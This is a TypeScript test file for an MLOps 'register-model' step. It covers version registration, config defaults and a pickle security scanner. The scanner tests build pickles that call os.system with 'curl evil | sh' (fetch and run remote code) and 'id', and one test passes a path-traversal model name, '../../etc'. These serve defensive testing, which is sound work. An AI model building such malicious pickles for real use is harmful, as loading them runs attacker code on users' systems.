import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { runContextFromEnv, silentLogger } from "@mlops/core";
import { LocalRegistry, openRegistry } from "@mlops/registry";
import { memoryActionIO, pythonMissing, runMain } from "@mlops/testkit";
import { bytes, callPickle, PROTO, STOP, uni } from "../../../packages/scan/test-support/builders.js";
import { runRecord } from "../../../test/registry/fixtures/run-record.js";
import { main } from "./main.js";

/** A pickle of one string: what a loader reads without importing anything (model-scan: safe). */
const pickledText = (text: string): Buffer => bytes(PROTO(2), uni(text), STOP);

// register-model's main in-process over an in-memory StepIO and the local registry (the bundle
// as the runner runs it, with a run record and a re-run attempt, and its lazily loaded scanner:
// test/registry/register-model-local.bundle.test.ts, in the bundled run).

function workspace(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "mlops-register-main-"));
  writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest"));
  writeFileSync(path.join(dir, "metrics.json"), JSON.stringify({ accuracy: 0.9 }));
  return dir;
}

const inputs = { model: "weather", "model-path": "model.pkl", registry: "local", "registry-path": "reg" };

describe("register-model main", () => {
  it("registers the next version and writes its outputs and summary", async () => {
    const dir = workspace();
    const first = memoryActionIO({ ...inputs, metrics: "metrics.json", aliases: "staging" });
    await runMain(main, first, dir);
    expect(first.failed).toBeNull();
    expect(first.outputs).toEqual({
      version: "1",
      "model-uri": "models:/weather/1",
      created: "true",
      aliases: '["staging"]',
    });
    expect(first.summary).toMatch(/Registered weather version 1/);
    // The same bytes again are the same version; new bytes are the next one.
    const same = memoryActionIO(inputs);
    await runMain(main, same, dir);
    expect([same.outputs.version, same.outputs.created]).toEqual(["1", "false"]);
    writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest, retrained"));
    const second = memoryActionIO(inputs);
    await runMain(main, second, dir);
    expect([second.outputs.version, second.outputs.created]).toEqual(["2", "true"]);
  });

  it("takes the model name from mlops.yml; a missing one is the user's mistake", async () => {
    const dir = workspace();
    writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nmodel: forecast\n");
    const io = memoryActionIO({ ...inputs, model: "", config: path.join(dir, "mlops.yml") });
    await runMain(main, io, dir);
    expect(io.outputs["model-uri"]).toBe("models:/forecast/1");
    // Without the config input or an mlops.yml in the workspace (the working directory).
    const missing = memoryActionIO({ ...inputs, model: "" });
    await runMain(main, missing, workspace());
    expect(missing.failed?.message).toMatch(/^input 'model' is required/);
  });

  describe("model-scan", () => {
    const PYTHON = process.env.MLOPS_SCAN_PYTHON ?? "/usr/bin/python3";
    const sklearn = pythonMissing(PYTHON, ["sklearn"]) === null;

    /** The versions of `weather` the registry lists. */
    async function versions(dir: string): Promise<number[]> {
      const registry = await openRegistry({
        backend: "local",
        path: path.join(dir, "reg"),
        ctx: { ...runContextFromEnv({}), workspace: dir },
        logger: silentLogger,
      });
      return (await registry.list("weather")).map((v) => v.number);
    }

    it.skipIf(!sklearn)(
      "a real fitted scikit-learn pickle registers with scan.verdict safe stored",
      async () => {
        const dir = workspace();
        const made = spawnSync(
          PYTHON,
          [
            "-c",
            [
              "import pickle, sys",
              "from sklearn.datasets import make_classification",
              "from sklearn.ensemble import RandomForestClassifier",
              "X, y = make_classification(n_samples=60, n_features=4, random_state=0)",
              "m = RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y)",
              "pickle.dump(m, open(sys.argv[1], 'wb'), protocol=4)",
            ].join("\n"),
            path.join(dir, "model.pkl"),
          ],
          { encoding: "utf8" },
        );
        expect(made.stderr).toBe("");
        const io = memoryActionIO(inputs);
        await runMain(main, io, dir);
        expect(io.failed).toBeNull();
        expect(io.outputs.version).toBe("1");
        expect(io.summary).toMatch(/model scan: safe — \d+ globals, all on the allowlist/);
        const registry = await openRegistry({
          backend: "local",
          path: path.join(dir, "reg"),
          ctx: { ...runContextFromEnv({}), workspace: dir },
          logger: silentLogger,
        });
        const version = await registry.resolve("weather", "1");
        expect(version.scan?.verdict).toBe("safe");
        expect(version.scan?.globals.map((g) => `${g.module}.${g.name}`)).toContain(
          "sklearn.ensemble._forest.RandomForestClassifier",
        );
        expect(version.scan?.globals.every((g) => g.severity === "safe")).toBe(true);
      },
    );

    it("a pickle that REDUCEs os.system fails the step, names the global and registers nothing", async () => {
      const dir = workspace();
      const fresh = memoryActionIO(inputs);
      await runMain(main, fresh, dir);
      expect(await versions(dir)).toEqual([1]);
      writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "curl evil | sh"));
      const io = memoryActionIO(inputs);
      await runMain(main, io, dir);
      expect(io.failed?.message).toMatch(
        /^model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
      );
      expect(io.outputs).toEqual({});
      expect(
        io.logger.entries.some(
          (l) => l.level === "error" && /model scan: model\.pkl .*os\.system/.test(l.message),
        ),
      ).toBe(true);
      // Nothing was staged or indexed: the registry still lists version 1 only.
      expect(await versions(dir)).toEqual([1]);
      // Into an empty registry: it is not even created.
      const empty = workspace();
      writeFileSync(path.join(empty, "model.pkl"), callPickle("os", "system", "id"));
      const again = memoryActionIO(inputs);
      await runMain(main, again, empty);
      expect(again.failed?.message).toMatch(/^model\.pkl: imports os\.system/);
      expect(existsSync(path.join(empty, "reg"))).toBe(false);
    });

    it("model-scan: warn registers the same file with a warning; off skips with a log line", async () => {
      const dir = workspace();
      writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "id"));
      const io = memoryActionIO({ ...inputs, "model-scan": "warn" });
      await runMain(main, io, dir);
      expect(io.failed).toBeNull();
      expect(io.outputs.version).toBe("1");
      expect(io.logger.entries.some((l) => l.level === "warning" && /os\.system/.test(l.message))).toBe(true);
      expect(io.summary).toMatch(
        /model scan: dangerous — 1 global in 1 file; model\.pkl: imports os\.system/,
      );
      const off = memoryActionIO({ ...inputs, "model-scan": "off", aliases: "staging" });
      await runMain(main, off, dir);
      expect(off.failed).toBeNull();
      expect(off.logger.entries.some((l) => /model scan: off/.test(l.message))).toBe(true);
      const bad = memoryActionIO({ ...inputs, "model-scan": "maybe" });
      await runMain(main, bad, dir);
      expect(bad.failed?.message).toBe(
        `input 'model-scan': expected one of 'fail', 'warn', 'off', found "maybe"`,
      );
    });

    it("mlops.yml register.model-scan is the default; a bad or truncated file is an error that fails", async () => {
      const dir = workspace();
      writeFileSync(path.join(dir, "model.pkl"), pickledText("x").subarray(0, 5));
      const io = memoryActionIO(inputs);
      await runMain(main, io, dir);
      expect(io.failed?.message).toMatch(/^model\.pkl: error: .*truncated.*; registered nothing/);
      writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nregister:\n  model-scan: warn\n");
      const warned = memoryActionIO({ ...inputs, config: path.join(dir, "mlops.yml") });
      await runMain(main, warned, dir);
      expect(warned.failed).toBeNull();
      expect(warned.outputs.version).toBe("1");
    });
  });
});

// What test/registry/register-model-local.bundle.test.ts ran as three more bundled runs.
describe("register-model main: mlops.yml, refusals", () => {
  it("takes the registry and the defaults from mlops.yml when the inputs are not given", async () => {
    const dir = workspace();
    writeFileSync(
      path.join(dir, "mlops.yml"),
      "model: rain\nregistry: { backend: local, path: shared/registry }\nregister: { aliases: [candidate] }\n",
    );
    const io = memoryActionIO({ token: "ghs_unused", "model-path": "model.pkl" });
    await runMain(main, io, dir); // mlops.yml is read from the working directory: the workspace, as on a runner
    expect(io.failed).toBeNull();
    expect(io.outputs).toMatchObject({ version: "1", "model-uri": "models:/rain/1" });
    const registry = new LocalRegistry({ root: path.join(dir, "shared/registry"), logger: silentLogger });
    expect((await registry.resolve("rain", "candidate")).number).toBe(1);
  });

  it("fails with a clear message on a hostile model name and stores nothing", async () => {
    const dir = workspace();
    const io = memoryActionIO({ ...inputs, model: "../../etc", "registry-path": ".mlops/registry" });
    await runMain(main, io, dir);
    expect(io.failed?.message).toContain('model name "../../etc" is not valid');
    expect(io.outputs).toEqual({});
    expect(existsSync(path.join(dir, ".mlops"))).toBe(false);
  });

  it("refuses the model of a failed training run", async () => {
    const dir = workspace();
    mkdirSync(path.join(dir, "out"));
    writeFileSync(
      path.join(dir, "out/run.json"),
      JSON.stringify(runRecord({ status: "failed", exitCode: 3 })),
    );
    const io = memoryActionIO({ model: "weather", "run-record": "out/run.json", registry: "local" });
    await runMain(main, io, dir);
    expect(io.failed?.message).toContain(
      "the training run failed (exit code 3); refusing to register its model",
    );
    expect(io.outputs).toEqual({});
  });
});
